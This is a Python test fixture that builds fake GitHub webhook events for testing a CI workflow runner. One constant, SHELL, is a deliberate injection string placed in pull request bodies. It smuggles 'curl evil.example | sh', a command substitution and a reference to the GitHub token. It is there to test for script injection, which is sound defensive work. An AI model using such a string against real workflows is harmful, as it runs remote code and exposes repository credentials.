"""Events in the form in which GitHub sends them."""

from collections.abc import Mapping, Sequence
from typing import Any

from assay_runners.planning import Event, Payload
from packages.runners.tests.fleet import GITHUB

REPOSITORY = GITHUB.repository
HEAD, BASE, MERGE, MAIN = "a" * 40, "b" * 40, "c" * 40, "d" * 40
CODE = ("packages/core/src/assay/metrics.py", "docs/noise.md")
DOCUMENTS = ("README.md", "docs/noise.md")
# A title, a branch or a label that a shell would execute.
SHELL = """x"; curl evil.example | sh; echo "$(id)` ${{ github.token }} '\\"""

MAINTAINER = {"login": "maintainer", "type": "User"}
AUTHOR = {"login": "author", "type": "User"}
BOT = {"login": "labeler[bot]", "type": "Bot"}


def repository(name: str = REPOSITORY, *, fork: bool = False) -> Payload:
    owner, short = name.split("/")
    return {
        "full_name": name, "name": short, "fork": fork, "default_branch": "main",
        "owner": {"login": owner, "type": "Organization"}, "private": False,
    }  # fmt: skip


def pull_request(  # noqa: PLR0913 - one for each fact that matters
    action: str,
    *,
    label: str | None = None,
    labels: Sequence[str] = (),
    sender: Mapping[str, str] = MAINTAINER,
    author: Mapping[str, str] | None = AUTHOR,
    head: str | None = REPOSITORY,
    branch: str = "faster-metrics",
    title: str = "Faster metrics",
    state: str = "open",
    changed: Sequence[str] | None = CODE,
    event: str = "pull_request",
    draft: bool = False,
    base: str = "main",
    changes: Mapping[str, Any] | None = None,
) -> Event:
    """Make a pull request event.

    head: the repository of its branch; None if deleted.
    author: None if the account is deleted.
    changes: the edited fields.
    """
    login = author["login"] if author else "ghost"
    payload: Payload = {
        "action": action,
        "number": 7,
        "pull_request": {
            "number": 7,
            "state": state,
            "draft": draft,
            "title": title,
            "body": SHELL,
            "user": dict(author) if author else None,
            "author_association": "CONTRIBUTOR" if head != REPOSITORY else "MEMBER",
            "labels": [{"name": name, "color": "ededed"} for name in labels],
            "head": {
                "ref": branch,
                "sha": HEAD,
                "label": f"{login}:{branch}",
                "repo": repository(head, fork=head != REPOSITORY) if head else None,
            },
            "base": {"ref": base, "sha": BASE, "repo": repository()},
            "merge_commit_sha": MERGE,
        },
        "repository": repository(),
        "organization": {"login": GITHUB.organization},
        "sender": dict(sender),
    }
    if label is not None:
        payload["label"] = {"name": label, "color": "ededed"}
    if changes is not None:
        payload["changes"] = dict(changes)
    if action == "synchronize":
        payload |= {"before": "e" * 40, "after": HEAD}
    # pull_request_target runs on the commit of the base.
    sha, ref = (
        (BASE, "refs/heads/main")
        if event == "pull_request_target"
        else (MERGE, "refs/pull/7/merge")
    )
    return Event(
        name=event, payload=payload, sha=sha, ref=ref,
        changed=None if changed is None else tuple(changed),
    )  # fmt: skip


def labeled(label: str, **facts: Any) -> Event:
    """Make the event of a maintainer who adds this label to a pull request."""
    facts.setdefault("labels", (label,))
    return pull_request("labeled", label=label, **facts)


def push(ref: str, *, deleted: bool = False, message: str = "metrics: one pass") -> Event:
    payload: Payload = {
        "ref": ref,
        "before": BASE,
        "after": "0" * 40 if deleted else MAIN,
        "created": False,
        "deleted": deleted,
        "forced": False,
        "head_commit": None if deleted else {"id": MAIN, "message": message},
        "commits": [],
        "repository": repository(),
        "pusher": {"name": "maintainer"},
        "sender": MAINTAINER,
    }
    return Event(name="push", payload=payload, sha=MAIN, ref=ref)


def dispatch(workflow: str, *, ref: str = "refs/heads/main", **inputs: str) -> Event:
    """Make the event of a manual start, for a branch or a tag."""
    payload: Payload = {
        "inputs": inputs or None,
        "ref": ref,
        "repository": repository(),
        "sender": MAINTAINER,
        "workflow": f".github/workflows/{workflow}",
    }
    return Event(name="workflow_dispatch", payload=payload, sha=MAIN, ref=ref)


def schedule(cron: str, *, unchanged: bool = False) -> Event:
    payload: Payload = {"schedule": cron, "repository": repository()}
    return Event(
        name="schedule", payload=payload, sha=MAIN, ref="refs/heads/main",
        unchanged_since_success=unchanged,
    )  # fmt: skip


def merge_group(action: str = "checks_requested") -> Event:
    payload: Payload = {
        "action": action,
        "merge_group": {
            "head_sha": MAIN, "head_ref": "refs/heads/gh-readonly-queue/main/pr-7-" + BASE,
            "base_sha": BASE, "base_ref": "refs/heads/main",
        },
        "repository": repository(),
        "sender": MAINTAINER,
    }  # fmt: skip
    ref = f"refs/heads/gh-readonly-queue/main/pr-7-{BASE}"
    return Event(name="merge_group", payload=payload, sha=MAIN, ref=ref)


def other(name: str, **payload: Any) -> Event:
    """Make an event that starts no workflow."""
    whole = {"repository": repository(), "sender": MAINTAINER, **payload}
    return Event(name=name, payload=whole, sha=MAIN, ref="refs/heads/main")


def recorded(event: Event) -> dict[str, Any]:
    """Make the content of a recorded event, as in examples/events."""
    return {
        "event_name": event.name, "event": event.payload, "sha": event.sha, "ref": event.ref,
        "changed": event.changed,
    }  # fmt: skip
